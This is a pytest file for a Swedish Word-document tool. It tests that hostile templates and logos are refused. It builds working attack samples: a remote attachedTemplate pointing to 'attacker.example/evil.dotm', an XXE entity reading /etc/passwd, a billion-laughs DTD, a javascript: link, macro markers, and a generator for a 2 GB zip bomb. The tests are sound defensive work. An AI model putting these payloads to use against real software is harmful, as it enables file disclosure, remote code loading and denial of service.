"""Hostile Word templates and logos (review hostile-input-2026-12, rows 2, 3, 11, 12, 20, 21).

Every template and logo is built here from python-docx's own document, never committed.
Whatever the input, `validate` reports it as a Swedish finding, and when `validate` passes,
`build` does not crash (`test_validate_agrees_with_build`).
"""

from __future__ import annotations

import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest

from omstallning.check.rules.files import check_logo, check_template
from omstallning.errors import OmstallningError
from omstallning.load import safe_read
from omstallning.writers.docx import template as docx_template
from tests.conftest import CONFIG, region_files, write_tree

Run = Callable[..., Any]
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE_CONFIG = CONFIG + "  mall: mall/reference.docx\n"
LOGO_CONFIG = CONFIG + "  logotyp: mall/logo.png\n"


# --- Building templates -----------------------------------------------------------------


def base_docx() -> bytes:
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


BASE = base_docx()


def with_parts(data: bytes, **changes: bytes | None) -> bytes:
    """`data` with parts replaced, added or (None) removed; `_` in a key is `/`."""
    named = {k.replace("__", "/").replace("_DOT_", "."): v for k, v in changes.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename in named:
                continue
            dst.writestr(info, src.read(info.filename))
        for name, blob in named.items():
            if blob is not None:
                dst.writestr(name, blob)
    return out.getvalue()


def part(name: str, data: bytes = BASE) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def replace_in(name: str, old: bytes, new: bytes, data: bytes = BASE) -> bytes:
    blob = part(name, data)
    assert old in blob, (name, old)
    return with_parts(data, **{name: blob.replace(old, new, 1)})


def rels(*rows: tuple[str, str, str]) -> bytes:
    body = "".join(
        f'<Relationship Id="rId{i + 90}" Type="{RT}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for i, (kind, target, mode) in enumerate(rows)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}">{body}</Relationships>'.encode()


def add_rels(name: str, *rows: tuple[str, str, str]) -> bytes:
    blob = part(name)
    extra = rels(*rows).split(b">", 2)[2].rsplit(b"</Relationships>", 1)[0]
    return with_parts(
        BASE, **{name: blob.replace(b"</Relationships>", extra + b"</Relationships>")}
    )


def style_as(name: str, kind: str) -> bytes:
    """A style named `name` of type `kind` added first to styles.xml."""
    style = (
        f'<w:style w:type="{kind}" w:customStyle="1" w:styleId="Hostile{kind}">'
        f'<w:name w:val="{name}"/></w:style>'
    ).encode()
    blob = part("word/styles.xml")
    head, sep, tail = blob.partition(b"<w:style ")
    return with_parts(BASE, **{"word/styles.xml": head + style + sep + tail})


def with_doctype(name: str, dtd: str, old: bytes, new: bytes) -> bytes:
    blob = part(name).replace(old, new, 1)
    decl_end = blob.index(b"?>") + 2
    blob = blob[:decl_end] + dtd.encode() + blob[decl_end:]
    return with_parts(BASE, **{name: blob})


def zip_bomb(gigabytes: int = 2) -> bytes:
    """A template whose [Content_Types].xml inflates to `gigabytes` GB, about 2 MB packed.

    Zeros are compressed once: after a full flush deflate starts afresh, so every further
    megabyte compresses to the same bytes, which are repeated instead of recomputed.
    """
    zeros = b"\0" * (1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)

    class Repeating:
        calls = 0

        def compress(self, data: bytes) -> bytes:
            assert data == zeros
            Repeating.calls += 1
            return first if Repeating.calls == 1 else again

        def flush(self) -> bytes:
            return comp.flush()

    out = io.BytesIO()
    real = zipfile._get_compressor  # type: ignore[attr-defined]
    zipfile._get_compressor = lambda *a, **k: Repeating()  # type: ignore[attr-defined]
    try:
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            with dst.open("[Content_Types].xml", "w", force_zip64=True) as member:
                for _ in range(gigabytes * 1024):
                    member.write(zeros)
    finally:
        zipfile._get_compressor = real  # type: ignore[attr-defined]
    with zipfile.ZipFile(io.BytesIO(BASE)) as src, zipfile.ZipFile(out, "a") as dst:
        for info in src.infolist():
            if info.filename != "[Content_Types].xml":
                dst.writestr(info, src.read(info.filename))
    return out.getvalue()


XXE = '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w:styles [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEMPLATE_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def dotx() -> bytes:
    return replace_in("[Content_Types].xml", DOC_MAIN.encode(), TEMPLATE_MAIN.encode())


# name -> (template bytes, file name in mall/, a phrase of the finding or None when valid)
TEMPLATES: dict[str, tuple[Callable[[], bytes], str, str | None]] = {
    "giltig": (lambda: BASE, "reference.docx", None),
    "giltig-dotx": (dotx, "reference.dotx", None),
    "giltig-https-lank": (
        lambda: add_rels(
            "word/_rels/document.xml.rels", ("hyperlink", "https://skr.se/", "External")
        ),
        "reference.docx",
        None,
    ),
    "attached-template-url": (
        lambda: with_parts(
            BASE,
            word___rels__settings_DOT_xml_DOT_rels=rels(
                ("attachedTemplate", "http://attacker.example/evil.dotm", "External")
            ),
        ),
        "reference.docx",
        "hämtar något utifrån (attachedTemplate",
    ),
    "extern-bild": (
        lambda: add_rels(
            "word/_rels/document.xml.rels", ("image", "http://x.example/a.png", "External")
        ),
        "reference.docx",
        "hämtar något utifrån (image",
    ),
    "javascript-lank": (
        lambda: add_rels(
            "word/_rels/document.xml.rels", ("hyperlink", "javascript:alert(1)", "External")
        ),
        "reference.docx",
        "som inte är http, https eller mailto",
    ),
    "dtd-xxe": (
        lambda: with_doctype(
            "word/styles.xml", XXE, b'<w:name w:val="Normal"/>', b'<w:name w:val="&xxe;"/>'
        ),
        "reference.docx",
        "har en DTD",
    ),
    "billion-laughs": (
        lambda: with_doctype(
            "word/styles.xml", LAUGHS, b'<w:name w:val="Normal"/>', b'<w:name w:val="&lol9;"/>'
        ),
        "reference.docx",
        "har en DTD",
    ),
    "entitet-utan-dtd": (
        lambda: replace_in(
            "word/styles.xml", b'<w:name w:val="Normal"/>', b'<w:name w:val="&xxe;"/>'
        ),
        "reference.docx",
        "trasig XML i word/styles.xml",
    ),
    "trasig-styles": (
        lambda: with_parts(BASE, word__styles_DOT_xml=part("word/styles.xml")[:500]),
        "reference.docx",
        "trasig XML i word/styles.xml",
    ),
    "trasig-document": (
        lambda: with_parts(BASE, word__document_DOT_xml=b"<w:document><w:body>"),
        "reference.docx",
        "trasig XML i word/document.xml",
    ),
    "instruktion-omstallning-body": (
        lambda: replace_in("word/document.xml", b"<w:body>", b"<w:body><?omstallning-body 0?>"),
        "reference.docx",
        "<?omstallning-body?>",
    ),
    "makro-vbaproject": (
        lambda: with_parts(BASE, word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0"),
        "reference.docx",
        "innehåller makron",
    ),
    "makro-innehallstyp": (
        lambda: replace_in("[Content_Types].xml", DOC_MAIN.encode(), MACRO.encode()),
        "reference.docx",
        "makroaktiverad",
    ),
    "makro-docm": (lambda: BASE, "reference.docm", "makroaktiverad (.docm)"),
    "zip-bomb": (zip_bomb, "reference.docx", "packas upp till mer än"),
    "ingen-zip": (lambda: b"PK\x03\x04 not a zip", "reference.docx", "ingen giltig Word-fil"),
    **{
        f"stil-{name.replace(' ', '-').lower()}-som-{kind}": (
            (lambda name=name, kind=kind: style_as(name, kind)),
            "reference.docx",
            f"har formatmallen ”{name}” som",
        )
        for name, kind in (
            ("Hyperlink", "paragraph"),
            ("heading 1", "table"),
            ("Normal", "character"),
            ("Title", "table"),
            ("toc 1", "character"),
            ("Quote", "numbering"),
            ("Table Grid", "paragraph"),
        )
    },
}


# --- Building logos -----------------------------------------------------------------------


def png(width: int = 1, height: int = 1, *, cut: int | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    data = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )
    return data if cut is None else data[:cut]


def jpeg(width: int = 1, height: int = 1, *, cut: int | None = None) -> bytes:
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    data = b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof
    data += b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 16 + b"\xff\xd9"
    return data if cut is None else data[:cut]


LOGOS: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "giltig-png": (png, None),
    "giltig-jpeg": (jpeg, None),
    "png-noll-bredd": (lambda: png(0, 1), "0 × 1 bildpunkter"),
    "png-jattestor": (lambda: png(100000, 1), "100000 × 1 bildpunkter"),
    "png-avkortad": (lambda: png(cut=20), "skadad eller avkortad"),
    "png-bara-magi": (lambda: b"\x89PNG\r\n\x1a\n", "skadad eller avkortad"),
    "jpeg-noll-hojd": (lambda: jpeg(1, 0), "1 × 0 bildpunkter"),
    "jpeg-avkortad": (lambda: jpeg(cut=12), "skadad eller avkortad"),
    "jpeg-bara-magi": (lambda: b"\xff\xd8\xff", "skadad eller avkortad"),
    "gif-avkortad": (lambda: b"GIF89a\x01", "skadad eller avkortad"),
    "ingen-bild": (lambda: b"hello", "ingen bild"),
}


def template_region(tmp_path: Path, name: str) -> Path:
    make, file, _expected = TEMPLATES[name]
    config = TEMPLATE_CONFIG.replace("reference.docx", file)
    return write_tree(
        tmp_path / "region", region_files(omstallning_DOT_yaml=config, **{f"mall__{file}": make()})
    )


def logo_region(tmp_path: Path, name: str) -> Path:
    make, _expected = LOGOS[name]
    return write_tree(
        tmp_path / "region",
        region_files(omstallning_DOT_yaml=LOGO_CONFIG, mall__logo_DOT_png=make()),
    )


# --- Findings in validate -------------------------------------------------------------------


@pytest.mark.parametrize("name", list(TEMPLATES))
def test_template_finding(name: str, tmp_path: Path) -> None:
    root = template_region(tmp_path, name)
    _make, file, expected = TEMPLATES[name]
    problem = check_template(root, f"mall/{file}")
    if expected is None:
        assert problem is None
    else:
        assert problem is not None and expected in problem, problem


@pytest.mark.parametrize("name", list(LOGOS))
def test_logo_finding(name: str, tmp_path: Path) -> None:
    root = logo_region(tmp_path, name)
    problem = check_logo(root, "mall/logo.png")
    expected = LOGOS[name][1]
    if expected is None:
        assert problem is None
    else:
        assert problem is not None and expected in problem, problem


def _exit(result: Any) -> int:
    return int(result.exit_code)


@pytest.mark.parametrize(
    ("kind", "name"), [("mall", n) for n in TEMPLATES] + [("logotyp", n) for n in LOGOS]
)
def test_validate_agrees_with_build(kind: str, name: str, tmp_path: Path, run_cli: Run) -> None:
    """If validate passes, build does not crash; if it fails, build refuses the same way."""
    root = template_region(tmp_path, name) if kind == "mall" else logo_region(tmp_path, name)
    checked = run_cli("validate", str(root), "--format", "json")
    built = run_cli("build", str(root), "--format", "docx", "-j", "1")
    assert _exit(built) != 3, built.output  # type: ignore[attr-defined]
    if _exit(checked) == 0:
        assert _exit(built) == 0, built.output  # type: ignore[attr-defined]
        assert (root / "build" / "klippan.docx").is_file()
    else:
        codes = {f["code"] for f in json.loads(checked.output)["findings"]}  # type: ignore[attr-defined]
        assert f"{kind}-fel" in codes
        assert _exit(built) == 1
        assert not (root / "build" / "klippan.docx").exists()


# --- Row 3: zip bombs are refused without inflating them ------------------------------------


def test_zip_bomb_is_refused_without_inflating(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = zip_bomb()
    assert len(bomb) < 3 * 1024 * 1024
    inflated = {"bytes": 0}
    real_read = zipfile.ZipExtFile.read

    def counting_read(self: Any, n: int = -1) -> bytes:
        data = real_read(self, n)
        inflated["bytes"] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    root = write_tree(
        tmp_path / "region",
        region_files(omstallning_DOT_yaml=TEMPLATE_CONFIG, mall__reference_DOT_docx=bomb),
    )
    problem = check_template(root, "mall/reference.docx")
    assert problem is not None and "packas upp till mer än" in problem
    assert inflated["bytes"] == 0  # refused by the member headers alone


def test_a_member_that_inflates_past_its_header_is_cut_off() -> None:
    """A lying header cannot make `read_zip_member` inflate past the caps either."""
    big = b"<a>" + b" " * (3 * 1024 * 1024) + b"</a>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("x.xml", big)
    with zipfile.ZipFile(out) as zf:
        info = zf.getinfo("x.xml")
        assert info.file_size > safe_read.ZIP_RATIO * info.compress_size
        with pytest.raises(safe_read.ZipBombError):
            safe_read.read_zip_member(zf, info)


# --- Rows 12 and 21: nothing of a refused template reaches an output -----------------------


@pytest.mark.parametrize("name", ["dtd-xxe", "makro-innehallstyp", "attached-template-url"])
def test_build_guard_refuses_in_swedish(name: str, tmp_path: Path) -> None:
    """`build`'s own guard (behind validate) refuses with a Swedish message, no repr."""
    root = template_region(tmp_path, name)
    path = root / "mall" / TEMPLATES[name][1]
    with pytest.raises(OmstallningError) as caught:
        docx_template.starting_document(path, docx_template.read_template(path))
    message = str(caught.value)
    assert "kan inte användas" in message
    assert "BytesIO" not in message and "&xxe;" not in message


# --- Row 21: messages for odd template paths ------------------------------------------------


def test_odd_template_paths_get_their_own_message(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "region", region_files(omstallning_DOT_yaml=TEMPLATE_CONFIG))
    mall = root / "mall"
    mall.mkdir()
    os.mkfifo(mall / "fifo.docx")
    (mall / "mapp.docx").mkdir()
    (mall / "a.docx").symlink_to("b.docx")
    (mall / "b.docx").symlink_to("a.docx")
    with (mall / "stor.docx").open("wb") as fh:
        fh.truncate(safe_read.TEMPLATE_BYTES + 1)  # sparse: no disk used
    assert "FIFO" in (check_template(root, "mall/fifo.docx") or "")
    assert "en mapp" in (check_template(root, "mall/mapp.docx") or "")
    assert "slinga" in (check_template(root, "mall/a.docx") or "")
    assert "finns inte" in (check_template(root, "mall/saknas.docx") or "")
    assert "större än 20 MB" in (check_template(root, "mall/stor.docx") or "")


def test_huge_logo_is_refused_by_its_size_without_reading_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Row 20: a 1 GB logo was read whole to check 8 bytes; now stat refuses it."""
    root = logo_region(tmp_path, "giltig-png")
    with (root / "mall" / "logo.png").open("r+b") as fh:
        fh.truncate(1024 * 1024 * 1024)  # sparse
    reads: list[int] = []
    real_read = os.read
    monkeypatch.setattr(os, "read", lambda fd, n: reads.append(n) or real_read(fd, n))
    problem = check_logo(root, "mall/logo.png")
    assert problem is not None and "större än 5 MB" in problem
    assert reads == []
